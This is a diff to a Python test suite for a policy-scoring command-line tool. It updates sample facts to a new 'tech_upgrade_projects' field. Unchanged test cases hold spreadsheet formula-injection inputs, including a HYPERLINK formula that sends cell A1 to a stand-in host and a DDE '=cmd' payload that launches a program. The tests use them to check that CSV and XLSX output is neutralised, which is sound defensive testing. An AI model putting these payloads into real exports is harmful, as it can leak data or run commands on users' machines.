@@ -14,19 +14,19 @@ import time
 from common import FACTS, FARM, HEAD, INV, profile, rule, rule_file
 
 ONE = profile("{}") + "\n"
-TWO = profile('{"tech_upgrade_investment": {"2023": 2000000}}') + "\n" + ONE
+TWO = profile('{"tech_upgrade_projects": [{"investment": 2000000, "completed_year": 2023}]}') + "\n" + ONE
 FULL = "No space left on device"
 
 
 def many(tmp, n=150000):
     """A JSON Lines input that takes a few seconds to score."""
-    line = profile('{"tech_upgrade_investment": {"2023": 2000000}, "main_revenue": {"2022": 30000000}}') + "\n"
+    line = profile('{"tech_upgrade_projects": [{"investment": 2000000, "completed_year": 2023}], "main_revenue": {"2022": 30000000}}') + "\n"
     with open(os.path.join(tmp, "big.jsonl"), "w", encoding="utf-8") as f:
         f.write(line * n)
 
 
 # 1,000 rows for standard input.
-ROWS = (profile('{"tech_upgrade_investment": {"2023": 2000000}}') + "\n").encode() * 1000
+ROWS = (profile('{"tech_upgrade_projects": [{"investment": 2000000, "completed_year": 2023}]}') + "\n").encode() * 1000
 
 
 def absent(*paths):
@@ -73,7 +73,7 @@ def fifo_got(prefix):
 
 
 INJECT = "".join(json.dumps({"id": i, "form": "enterprise", "region": "330802", "policy_year": 2023,
-                             "facts": {"tech_upgrade_investment": {"2023": 2000000}}}, ensure_ascii=False) + "\n"
+                             "facts": {"tech_upgrade_projects": [{"investment": 2000000, "completed_year": 2023}]}}, ensure_ascii=False) + "\n"
                  for i in ['=HYPERLINK("http://x.example/?q="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)",
                            "\tTAB", "\rCR", "plain"])
 
@@ -250,7 +250,7 @@ CASES = [
      {"check": csv_neutralised}),
     ("csv-injection-eval", {"p.json": json.dumps({"id": "=cmd|' /C calc'!A0", "form": "enterprise",
                                                   "region": "330802", "policy_year": 2023,
-                                                  "facts": {"tech_upgrade_investment": {"2023": 2000000}}})},
+                                                  "facts": {"tech_upgrade_projects": [{"investment": 2000000, "completed_year": 2023}]}})},
      ["eval", "p.json", "--format", "csv"], 0, "'=cmd|' /C calc'!A0,", {"absent": "\n=cmd"}),
     ("xlsx-injection", {"in.jsonl": INJECT}, ["batch", "in.jsonl", "-o", "out.xlsx", "--quiet"], 0, "",
      {"check": xlsx_neutralised}),
@@ -260,9 +260,9 @@ CASES = [
                                                            "policy_year": 2023, "facts": {}}) + "\n"},
      ["batch", "in.jsonl", "-o", "out.xlsx", "--quiet"], 0, "", {"check": xlsx_long_id}),
     # --- eval's CSV for a spreadsheet program: a byte-order mark on request, only for CSV ---
-    ("eval-csv-excel-bom", {"p.json": profile('{"tech_upgrade_investment": {"2023": 2000000}}')},
+    ("eval-csv-excel-bom", {"p.json": profile('{"tech_upgrade_projects": [{"investment": 2000000, "completed_year": 2023}]}')},
      ["eval", "p.json", "--format", "csv", "--excel"], 0, "", {"stdout": "out.csv", "check": starts_with_bom("out.csv")}),
-    ("eval-csv-no-bom-by-default", {"p.json": profile('{"tech_upgrade_investment": {"2023": 2000000}}')},
+    ("eval-csv-no-bom-by-default", {"p.json": profile('{"tech_upgrade_projects": [{"investment": 2000000, "completed_year": 2023}]}')},
      ["eval", "p.json", "--format", "csv"], 0, "", {"stdout": "out.csv", "check": starts_with_bom("out.csv", False)}),
     ("eval-excel-needs-csv", {"p.json": profile("{}")}, ["eval", "p.json", "--excel"], 2,
      "--excel applies only to --format csv"),
